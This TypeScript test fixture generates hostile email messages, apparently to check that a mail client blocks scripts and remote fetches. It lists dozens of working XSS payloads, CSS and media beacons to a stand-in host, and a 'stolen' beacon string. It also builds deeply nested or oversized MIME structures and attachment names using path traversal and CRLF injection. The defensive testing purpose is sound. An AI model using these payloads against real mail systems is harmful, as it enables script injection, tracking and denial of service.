/**
 * Mail made to do harm: scripts in every place known for them, structures that go on for ever, headers that lie. Each is
 * the bytes of one message; `far` is a host that must never be asked for anything.
 */

export interface Hostile {
  name: string;
  bytes: Buffer;
}

const STEAL = "top.stolen=1;parent.stolen=1;window.stolen=1;new Image().src='FAR/script'";

/** HTML bodies; `JS` stands for a script, `FAR` for the host. */
const BODIES: string[] = [
  ...[
    '<script>JS</script>',
    '<SCRIPT SRC="FAR/x.js"></SCRIPT>',
    '<script/x>JS</script>',
    '<scr<script>ipt>JS</script>',
  ],
  ...[
    '<script\n>JS</script\n>',
    '<script>JS',
    '<<script>JS//<</script>',
    '<script src=data:text/javascript,JS></script>',
  ],
  ...[
    '<script type=module>JS</script>',
    '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
  ],
  ...[
    '<img src=x onerror="JS">',
    '<img src=x onerror=JS//',
    '<img/src=x/onerror=JS>',
    '<img src=`x`onerror=JS>',
  ],
  ...[
    '<img src="FAR/p.png">',
    '<img srcset="FAR/p.png 2x">',
    '<img src="//FARHOST/p.png">',
    '<img src=\\\\FARHOST\\p.png>',
  ],
  ...[
    '<img lowsrc="FAR/p.png">',
    '<img src="javascript:JS">',
    '<img dynsrc="FAR/p">',
    '<image src=FAR/p.png>',
  ],
  ...[
    '<body onload="JS">',
    '<body background="FAR/b.png">',
    '<svg onload="JS">',
    '<svg><script>JS</script></svg>',
  ],
  ...[
    '<svg><animate onbegin=JS attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:JS"><text>x</text></a></svg>',
  ],
  ...[
    '<svg><use href="FAR/s.svg#x"/></svg>',
    '<svg><image href="FAR/i.png"/></svg>',
    '<svg><style>@import "FAR/c"</style></svg>',
  ],
  ...['<svg><foreignObject><iframe src="FAR/f"></iframe></foreignObject></svg>', '<svg/onload=JS>'],
  ...['<math><mtext><table><mglyph><style><img src=x onerror="JS">', '<math href="javascript:JS">x</math>'],
  ...[
    '<math><mi//xlink:href="data:x,<script>JS</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>',
  ],
  ...[
    '<iframe src="javascript:JS"></iframe>',
    '<iframe srcdoc="<script>JS</script>"></iframe>',
    '<iframe src="FAR/f"></iframe>',
  ],
  ...[
    '<frameset onload=JS><frame src=FAR/f></frameset>',
    '<object data="FAR/o.swf"></object>',
    '<embed src="FAR/e.swf">',
  ],
  ...[
    '<object data="data:text/html,<script>JS</script>"></object>',
    '<applet code="x" codebase="FAR"></applet>',
  ],
  ...[
    '<portal src="FAR/p"></portal>',
    '<link rel=stylesheet href="FAR/c.css">',
    '<link rel=prefetch href="FAR/pre">',
  ],
  ...[
    '<link rel=dns-prefetch href="FAR">',
    '<link rel=preload as=script href="FAR/x.js">',
    '<link rel=import href="FAR/i">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=FAR/r">',
    '<meta http-equiv=refresh content="0;url=javascript:JS">',
  ],
  ...[
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="FAR/"><img src="p.png">',
  ],
  ...['<style>@import url(FAR/c.css);</style>', '<style>body{background:url(FAR/b.png)}</style>'],
  ...[
    '<style>@font-face{font-family:x;src:url(FAR/f.woff)}body{font-family:x}</style>',
    '<style>*{behavior:url(FAR/h.htc)}</style>',
  ],
  ...[
    '<style>body{background:\\75 rl(FAR/b.png)}</style>',
    '<style>body{-moz-binding:url(FAR/x.xml#x)}</style>',
  ],
  ...[
    '<style>body{background-image:image-set("FAR/b.png" 1x)}</style>',
    '<style>@media all{body{background:url(//FARHOST/b)}}</style>',
  ],
  ...[
    '<div style="background:url(FAR/b.png)">x</div>',
    '<div style="background:url(&#x68;ttp://FARHOST/b.png)">x</div>',
  ],
  ...['<div style="width:expression(JS)">x</div>', '<div style="background:\\75\\72\\6c(FAR/b.png)">x</div>'],
  ...[
    '<div style="list-style-image:url(FAR/l.png)">x</div>',
    '<div style="cursor:url(FAR/c.cur),auto">x</div>',
  ],
  ...[
    '<table background="FAR/t.png"><tr><td background="FAR/d.png">x</td></tr></table>',
    '<div onmouseover="JS">x</div>',
  ],
  ...[
    '<a href="javascript:JS">x</a>',
    '<a href="JaVaScRiPt:JS">x</a>',
    '<a href="java&#x09;script:JS">x</a>',
  ],
  ...[
    '<a href=" &#14; javascript:JS">x</a>',
    '<a href="data:text/html,<script>JS</script>">x</a>',
    '<a href="vbscript:x">x</a>',
  ],
  ...[
    '<a ping="FAR/ping" href="https://a.example/">x</a>',
    '<a href="https://a.example/" onclick="JS">x</a>',
    '<a onfocus=JS autofocus tabindex=1>x</a>',
  ],
  ...[
    '<form action="FAR/f"><input name=p type=password><button>ok</button></form>',
    '<input autofocus onfocus=JS>',
  ],
  ...[
    '<button formaction="javascript:JS">x</button>',
    '<isindex action="javascript:JS">',
    '<keygen autofocus onfocus=JS>',
  ],
  ...[
    '<select autofocus onfocus=JS></select>',
    '<textarea autofocus onfocus=JS></textarea>',
    '<input type=image src="FAR/i.png">',
  ],
  ...[
    '<video src="FAR/v.mp4" autoplay></video>',
    '<video poster="FAR/p.png"></video>',
    '<video><source onerror="JS"></video>',
  ],
  ...[
    '<audio src="FAR/a.mp3" autoplay></audio>',
    '<audio src=x onerror=JS>',
    '<picture><source srcset="FAR/p.png"><img src=x></picture>',
  ],
  ...[
    '<details open ontoggle=JS>x</details>',
    '<marquee onstart=JS>x</marquee>',
    '<bgsound src="FAR/s.mid">',
  ],
  ...[
    '<xml id=x><script>JS</script></xml>',
    '<!--[if IE]><script>JS</script><![endif]-->',
    '<!--><img src=x onerror=JS>-->',
  ],
  ...[
    '<![CDATA[<script>JS</script>]]>',
    '<?xml version="1.0"?><script>JS</script>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "FAR/e">]>&e;',
  ],
  ...[
    '<title><img src=x onerror=JS></title>',
    '<template><script>JS</script></template>',
    '<plaintext><script>JS</script>',
  ],
  ...[
    '<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>',
    '<listing>&lt;img onerror=JS src=x&gt;</listing>',
  ],
  ...[
    '<p id="x" class="a" style="position:fixed;inset:0;background:#fff">all over</p>',
    '<dialog open onclose=JS>x</dialog>',
  ],
  ...[
    '<body onhashchange=JS><a href=#x>x</a>',
    '<div popover onbeforetoggle=JS id=p>x</div><button popovertarget=p>y</button>',
  ],
  ...['<img src="cid:%E0%A4%A">', '<img src="cid:none">', '<img src=data:image/svg+xml,<svg/onload=JS>>'],
  ...[
    '<a href="https://a.example/" target="_top">x</a>',
    '<a href="/settings" target="_parent">x</a>',
    '<b>unclosed<i><u>',
  ],
  ...[
    '</body></html><script>JS</script>',
    '<html manifest="FAR/m"><body>x',
    '<blockquote><blockquote><script>JS</script>',
  ],
  ...[
    '<details><summary>x</summary></blockquote></details>',
    '<img src="FAR/p.png" width=1 height=1>',
    '<div contenteditable oninput=JS>x</div>',
  ],
  ...[
    '+ADw-script+AD4-JS+ADw-/script+AD4-',
    '¼script¾JS¼/script¾',
    '<script>JS</script>'.split('').join('\u0000'),
  ],
  ...[
    '<style><!--</style><script>JS</script>--></style>',
    '<a style="behavior:url(#default#time2)" onbegin=JS>x</a>',
  ],
];

const head = (more: string[] = []) => [
  'From: Mallory <m@evil.example>',
  'To: registrar@wrenfield.example',
  'Subject: Please read',
  'MIME-Version: 1.0',
  ...more,
];
const message = (lines: string[], body: string | Buffer): Buffer =>
  Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), Buffer.from(body)]);

function nested(depth: number): Buffer {
  let body = 'Content-Type: text/html\r\n\r\n<script>JS</script>deep';
  for (let n = 0; n < depth; n++)
    body = `Content-Type: multipart/mixed; boundary=b${n}\r\n\r\n--b${n}\r\n${body}\r\n--b${n}--`;
  return Buffer.from(`${head().join('\r\n')}\r\n${body}`);
}

function forwarded(depth: number): Buffer {
  let inner = 'From: a@x.example\r\nSubject: x\r\n\r\nx';
  for (let n = 0; n < depth; n++) inner = `From: a@x.example\r\nContent-Type: message/rfc822\r\n\r\n${inner}`;
  return Buffer.from(inner);
}

const HTML = ['Content-Type: text/html; charset=utf-8'];
const TEXT = ['Content-Type: text/plain; charset=utf-8'];

/** Structures and headers that lie. */
function odd(): Hostile[] {
  const all: [string, Buffer][] = [
    ['nothing at all', Buffer.alloc(0)],
    ['one line end', Buffer.from('\r\n')],
    ['only zeros', Buffer.alloc(2000)],
    ['random bytes', Buffer.from(Array.from({ length: 5000 }, (_, n) => (n * 7919) % 256))],
    ['no header', Buffer.from('Hello, this is only text.')],
    ['no body', Buffer.from('From: a@x.example\r\nSubject: x')],
    ['a header of a megabyte', message(head([`X-Long: ${'a'.repeat(1_000_000)}`]), 'x')],
    ['a subject of a megabyte', message(['From: a@x.example', `Subject: ${'a '.repeat(500_000)}`], 'x')],
    ['ten thousand headers', message(head(Array.from({ length: 10_000 }, (_, n) => `X-${n}: ${n}`)), 'x')],
    [
      'five thousand recipients',
      message([`To: ${Array.from({ length: 5000 }, (_, n) => `a${n}@x.example`).join(', ')}`], 'x'),
    ],
    [
      'a reference to itself',
      message(
        head([
          'Message-ID: <self@evil.example>',
          'References: <self@evil.example>',
          'In-Reply-To: <self@evil.example>',
        ]),
        'x',
      ),
    ],
    [
      'ten thousand references',
      message(
        head([`References: ${Array.from({ length: 10_000 }, (_, n) => `<${n}@e.example>`).join(' ')}`]),
        'x',
      ),
    ],
    ['two Message-IDs', message(head(['Message-ID: <1@e.example>', 'Message-ID: <2@e.example>']), 'x')],
    ['two From fields', message(['From: a@x.example', 'From: b@x.example', 'Subject: x'], 'x')],
    ['a broken From', message(['From: "a" <<b@x.example>>, ;:', 'Subject: x'], 'x')],
    [
      'a name that is another address',
      message(['From: "boss@wrenfield.example" <m@evil.example>', 'Subject: x'], 'x'),
    ],
    [
      'a name with bidi marks',
      message(
        ['From: =?utf-8?B?4oCuZ25w?= <m@evil.example>', 'Subject: =?utf-8?B?4oCuZXhlLnRuZW1oY2F0dGE=?='],
        'x',
      ),
    ],
    [
      'a line end in an encoded word',
      message(['From: a@x.example', 'Subject: =?utf-8?Q?a=0D=0ABcc:_b=40x.example?='], 'x'),
    ],
    [
      'a broken encoded word',
      message(['From: a@x.example', 'Subject: =?utf-8?B?####?= =?none?Q?x?= =?utf-8?Q?'], 'x'),
    ],
    ['a charset that is none', message(head(['Content-Type: text/plain; charset=x-martian']), 'x\xe9')],
    ['utf-8 that is none', message(head(TEXT), Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0x41]))],
    [
      'utf-16 called ascii',
      message(head(['Content-Type: text/plain; charset=us-ascii']), Buffer.from('text', 'utf16le')),
    ],
    [
      'utf-7',
      message(head(['Content-Type: text/html; charset=utf-7']), '+ADw-script+AD4-JS+ADw-/script+AD4-'),
    ],
    [
      'base64 that is none',
      message(head([...TEXT, 'Content-Transfer-Encoding: base64']), '!!!! ==== \u0000'),
    ],
    [
      'quoted-printable that is none',
      message(head([...TEXT, 'Content-Transfer-Encoding: quoted-printable']), '=ZZ=3=\r\n='),
    ],
    ['an encoding that is none', message(head([...TEXT, 'Content-Transfer-Encoding: x-rot13']), 'uryyb')],
    ['a boundary that never comes', message(head(['Content-Type: multipart/mixed; boundary=never']), 'x')],
    ['no boundary', message(head(['Content-Type: multipart/mixed']), '--\r\n\r\nx\r\n----')],
    ['an empty boundary', message(head(['Content-Type: multipart/mixed; boundary=""']), '--\r\n\r\nx')],
    [
      'the same boundary within',
      message(
        head(['Content-Type: multipart/mixed; boundary=b']),
        '--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--',
      ),
    ],
    [
      'a thousand empty parts',
      message(head(['Content-Type: multipart/mixed; boundary=b']), '--b\r\n\r\n\r\n'.repeat(1000)),
    ],
    ['a content type that is none', message(head(['Content-Type: ;;;///']), 'x')],
    ['parameters without end', message(head([`Content-Type: text/plain; ${'a=b; '.repeat(20_000)}`]), 'x')],
    [
      'parameter pieces',
      message(
        head(['Content-Type: application/x', ...Array.from({ length: 500 }, (_, n) => ` ;name*${n}=a`)]),
        'x',
      ),
    ],
    ['20 levels', nested(20)],
    ['200 levels', nested(200)],
    ['2000 levels', nested(2000)],
    ['50 forwards in one another', forwarded(50)],
    ['500 forwards in one another', forwarded(500)],
    ['a line of two megabytes', message(head(TEXT), 'a'.repeat(2_000_000))],
    ['200,000 line ends', message(head(TEXT), '\n'.repeat(200_000))],
    ['100,000 open elements', message(head(HTML), '<div>'.repeat(100_000))],
    ['50,000 open quotes', message(head(HTML), '<blockquote>'.repeat(50_000))],
    ['an attribute of a megabyte', message(head(HTML), `<p title="${'a'.repeat(1_000_000)}">x`)],
    ['a million entities', message(head(HTML), '&lt;'.repeat(250_000))],
    [
      'a form as a report',
      message(
        head(['Content-Type: multipart/report; report-type=delivery-status; boundary=b']),
        '--b\r\nContent-Type: message/delivery-status\r\n\r\nAction: failed\r\nFinal-Recipient: rfc822; x\r\n--b--',
      ),
    ],
    [
      'a calendar',
      message(
        head(['Content-Type: text/calendar; method=REQUEST']),
        'BEGIN:VCALENDAR\r\nATTACH:FAR/a\r\nEND:VCALENDAR',
      ),
    ],
  ];
  for (const date of [
    ...[
      'Thu, 1 Jan 1970 00:00:00 +0000',
      'Fri, 31 Feb 2026 25:61:61 +9999',
      'Mon, 1 Jan 9999 00:00:00 +0000',
    ],
    ...[
      'never',
      '-1',
      'Tue, 24 Nov 2026 14:24:00 -0000',
      'Tue, 24 Nov 1066 14:24:00 +0000',
      '2026-11-24',
      '9'.repeat(500),
    ],
  ])
    all.push([`dated ${date.slice(0, 30)}`, message(head([`Date: ${date}`]), 'x')]);
  for (const file of [
    ...[
      '../../etc/passwd',
      'C:\\Windows\\x.exe',
      'con',
      '.htaccess',
      'a\u0000.png',
      'a'.repeat(5000),
      'invoice.pdf.exe',
    ],
    ...['=?utf-8?B?4oCuZ3BqLmV4ZQ==?=', '"; filename="b', 'a\r\n\r\n<script>', '', '   ', 'x.html', 'x.svg'],
  ])
    all.push([
      `a file called ${JSON.stringify(file.slice(0, 20))}`,
      message(
        head([
          `Content-Type: text/html; name="${file.replace(/[\r\n\0]/g, '')}"`,
          `Content-Disposition: attachment; filename="${file.replace(/[\0]/g, '')}"`,
        ]),
        '<script>JS</script>',
      ),
    ]);
  return all.map(([name, bytes]) => ({ name, bytes }));
}

/** Each body by one of the ways HTML comes: as it is, in base64, among others, in UTF-16. */
function wrapped(body: string, way: number): Buffer {
  if (way === 1)
    return message(
      head([...HTML, 'Content-Transfer-Encoding: base64']),
      Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n'),
    );
  if (way === 2) {
    const parts = ['--b', ...TEXT, '', 'plain', '--b', ...HTML, '', body, '--b--', ''];
    return message(head(['Content-Type: multipart/alternative; boundary=b']), parts.join('\r\n'));
  }
  if (way === 3)
    return message(
      head(['Content-Type: text/html; charset=utf-16le', 'Content-Transfer-Encoding: base64']),
      Buffer.from(body, 'utf16le').toString('base64'),
    );
  return message(head(HTML), body);
}

/** @param far `http://host:port` of who must not be asked */
export function hostileMail(far: string): Hostile[] {
  const host = far.replace(/^https?:\/\//, '');
  const filled = (text: string) =>
    text.replaceAll('JS', STEAL).replaceAll('FARHOST', host).replaceAll('FAR', far);
  const bodies = BODIES.map((body, index) => ({
    name: body.slice(0, 60),
    bytes: wrapped(filled(body), index % 4),
  }));
  const structures = odd().map(({ name, bytes }) => ({
    name,
    bytes: bytes.length < 100_000 ? Buffer.from(filled(bytes.toString('latin1')), 'latin1') : bytes,
  }));
  // All at once: what is harmless alone may not be together.
  const together = [0, 1, 2].map((part) => ({
    name: `a third of them together, ${part}`,
    bytes: wrapped(
      BODIES.filter((_, index) => index % 3 === part)
        .map(filled)
        .join('\n'),
      part,
    ),
  }));
  return [...bodies, ...structures, ...together];
}
